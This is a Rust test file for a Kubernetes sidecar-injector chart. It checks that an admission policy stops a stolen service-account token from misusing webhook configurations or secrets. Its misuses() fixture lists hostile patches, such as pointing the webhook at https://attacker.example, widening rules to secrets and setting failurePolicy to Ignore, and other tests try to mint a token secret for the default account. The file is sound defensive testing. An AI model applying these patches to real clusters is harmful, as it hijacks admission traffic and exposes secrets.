//! What somebody can't do who has stolen the injector's token: real calls with the account's own.

use k8s_openapi::{
    ByteString,
    api::{
        admissionregistration::v1::{
            MutatingWebhookConfiguration, ValidatingAdmissionPolicyBinding,
        },
        coordination::v1::Lease,
        core::v1::Secret,
    },
};
use kube::{
    Api, Client, Error,
    api::{DeleteParams, Patch, PatchParams, PostParams},
};
use pillion_envtest::ControlPlane;
use serde_json::{Value, json};

use super::{account, helm::install};
use crate::eventually;

/// Patches of a webhook configuration that go beyond the caBundle.
fn misuses() -> Vec<Value> {
    let hook = |field: &str, value: Value| json!([{"op": "add", "path": format!("/webhooks/0/{field}"), "value": value}]);
    let metadata = |field: &str, value: Value| json!([{"op": "add", "path": format!("/metadata/{field}"), "value": value}]);
    let everything = json!([{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}]);
    let owner = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "a", "uid": "b"}]);
    let mut another = json!({"name": "another.attacker.example", "admissionReviewVersions": ["v1"], "sideEffects": "None"});
    another["clientConfig"] = json!({"url": "https://attacker.example"});
    vec![
        hook("rules", everything),
        hook("rules/0/resources/-", json!("secrets")),
        hook("rules/0/scope", json!("*")),
        hook("namespaceSelector", json!({})),
        hook("objectSelector", json!({})),
        hook("objectSelector/matchLabels", json!({"a": "b"})),
        hook("clientConfig", json!({"url": "https://attacker.example"})),
        hook("clientConfig/service/name", json!("attacker")),
        hook("clientConfig/service/namespace", json!("attacker")),
        hook("clientConfig/service/path", json!("/attack")),
        hook("clientConfig/service/port", json!(444)),
        hook("failurePolicy", json!("Ignore")),
        hook("matchPolicy", json!("Exact")),
        hook(
            "matchConditions",
            json!([{"name": "none", "expression": "false"}]),
        ),
        hook("reinvocationPolicy", json!("IfNeeded")),
        hook("sideEffects", json!("NoneOnDryRun")),
        hook("timeoutSeconds", json!(30)),
        hook("admissionReviewVersions", json!(["v1"])),
        hook("name", json!("renamed.sidecar-injector.istio.io")),
        json!([{"op": "add", "path": "/webhooks/-", "value": another}]),
        json!([{"op": "remove", "path": "/webhooks/0"}]),
        json!([{"op": "remove", "path": "/webhooks"}]),
        json!([{"op": "remove", "path": "/webhooks/0/clientConfig/service/path"}]),
        json!([{"op": "move", "from": "/webhooks/0", "path": "/webhooks/1"}]),
        metadata("labels/a", json!("b")),
        json!([{"op": "remove", "path": "/metadata/labels/istio.io~1rev"}]),
        metadata("annotations/a", json!("b")),
        metadata("finalizers", json!(["example.com/never"])),
        metadata("ownerReferences", owner),
    ]
}

/// Patches, in a dry run: the next one finds everything as it was.
async fn try_patch(
    api: &Api<MutatingWebhookConfiguration>,
    name: &str,
    patch: &Value,
) -> Result<(), Error> {
    let dry_run = PatchParams {
        dry_run: true,
        ..PatchParams::default()
    };
    let patch: json_patch::Patch = serde_json::from_value(patch.clone()).unwrap();
    api.patch(name, &dry_run, &Patch::Json::<()>(patch))
        .await
        .map(|_| ())
}

/// The message of a call that the API server forbids.
fn forbidden<T>(what: &str, answer: Result<T, Error>) -> String {
    match answer {
        Err(Error::Api(status)) if status.code == 403 => status.message,
        Err(error) => panic!("{what}: {error}"),
        Ok(_) => panic!("{what}: allowed"),
    }
}

#[tokio::test]
async fn rejects_changes_of_the_webhooks_beyond_their_ca_bundle() {
    let plane = ControlPlane::shared().await.unwrap();
    let admin = plane.client().await.unwrap();
    let namespace = plane.namespace("chart", &[]).await.unwrap();
    install(
        plane,
        &namespace,
        "revision=misuse,injector.webhookAnnotations.a=c",
    )
    .await;
    let thief = account::client(plane, &namespace, "pillion-injector-misuse").await;
    let configurations: Api<MutatingWebhookConfiguration> = Api::all(thief);
    let name = format!("istio-sidecar-injector-misuse-{namespace}");

    let misuses = misuses();
    // One that comes into force later than it is deleted would refuse what is tried meanwhile.
    eventually("the policy is in force", async || {
        try_patch(&configurations, &name, &misuses[0]).await.err()
    })
    .await;

    // Without the policy each of them is what RBAC allows: nothing else refuses it.
    let bindings: Api<ValidatingAdmissionPolicyBinding> = Api::all(admin.clone());
    let policy = format!("pillion-injector-misuse-{namespace}");
    let mut binding = bindings.get(&policy).await.unwrap();
    bindings
        .delete(&policy, &DeleteParams::default())
        .await
        .unwrap();
    eventually("the policy is out of force", async || {
        try_patch(&configurations, &name, &misuses[0]).await.ok()
    })
    .await;
    for misuse in &misuses {
        if let Err(error) = try_patch(&configurations, &name, misuse).await {
            panic!("{misuse}: {error}");
        }
    }

    binding.metadata.resource_version = None;
    bindings
        .create(&PostParams::default(), &binding)
        .await
        .unwrap();
    eventually("the policy is in force", async || {
        try_patch(&configurations, &name, &misuses[0]).await.err()
    })
    .await;
    for misuse in &misuses {
        let answer = try_patch(&configurations, &name, misuse).await;
        let message = forbidden(&misuse.to_string(), answer);
        assert!(
            message.contains("only the caBundle of a MutatingWebhookConfiguration's webhooks"),
            "{message}"
        );
    }

    // And somebody else still may.
    let configurations: Api<MutatingWebhookConfiguration> = Api::all(admin);
    try_patch(&configurations, &name, &misuses[0])
        .await
        .unwrap();
}

#[tokio::test]
async fn accepts_a_patch_of_the_ca_bundle() {
    let plane = ControlPlane::shared().await.unwrap();
    let namespace = plane.namespace("chart", &[]).await.unwrap();
    install(plane, &namespace, "revision=bundle").await;
    let account = account::client(plane, &namespace, "pillion-injector-bundle").await;
    let configurations: Api<MutatingWebhookConfiguration> = Api::all(account);
    let name = format!("istio-sidecar-injector-bundle-{namespace}");
    let refused = json!([{"op": "remove", "path": "/webhooks/0"}]);
    eventually("the policy is in force", async || {
        try_patch(&configurations, &name, &refused).await.err()
    })
    .await;
    let change = |op: &str, bundle: &str| -> json_patch::Patch {
        let change = |index: usize| {
            let path = format!("/webhooks/{index}/clientConfig/caBundle");
            json!({"op": op, "path": path, "value": ByteString(bundle.into())})
        };
        serde_json::from_value(json!([change(0), change(1)])).unwrap()
    };
    for (op, bundle) in [("add", "one"), ("replace", "another"), ("remove", "")] {
        let patch = Patch::Json::<()>(change(op, bundle));
        let patched = configurations
            .patch(&name, &PatchParams::default(), &patch)
            .await;
        patched.unwrap_or_else(|error| panic!("{op}: {error}"));
    }
}

#[tokio::test]
async fn rejects_other_secrets_than_its_own() {
    let plane = ControlPlane::shared().await.unwrap();
    let admin = plane.client().await.unwrap();
    let namespace = plane.namespace("chart", &[]).await.unwrap();
    install(plane, &namespace, "revision=thief").await;
    let thief = account::client(plane, &namespace, "pillion-injector-thief").await;
    let own = "pillion-injector-certs-thief";
    let token_of_default = |name: &str| {
        json!({
            "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
            "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "default"}},
        })
    };
    let secrets: Api<Secret> = Api::namespaced(thief.clone(), &namespace);
    let create = async |secret: Value| {
        let what = secret.to_string();
        let secret = serde_json::from_value(secret).unwrap();
        forbidden(&what, secrets.create(&PostParams::default(), &secret).await);
    };
    create(token_of_default("token")).await;
    create(json!({"metadata": {"name": "any"}, "data": {}})).await;

    // Nor is its own turned into one: neither as it is nor when it is gone.
    let turned = Patch::Merge(token_of_default(own));
    let answer = secrets.patch(own, &PatchParams::default(), &turned).await;
    let error = answer.unwrap_err().to_string();
    assert!(error.contains("immutable"), "{error}");
    let by_admin: Api<Secret> = Api::namespaced(admin, &namespace);
    by_admin
        .delete(own, &DeleteParams::default())
        .await
        .unwrap();
    create(token_of_default(own)).await;
    let applied = Patch::Apply(token_of_default(own));
    let apply = PatchParams::apply("thief").force();
    forbidden("an apply", secrets.patch(own, &apply, &applied).await);
    forbidden("a lease", make_lease(thief, &namespace).await);
}

async fn make_lease(client: Client, namespace: &str) -> Result<Lease, Error> {
    let leases: Api<Lease> = Api::namespaced(client, namespace);
    let lease = serde_json::from_value(json!({"metadata": {"name": "any"}})).unwrap();
    leases.create(&PostParams::default(), &lease).await
}
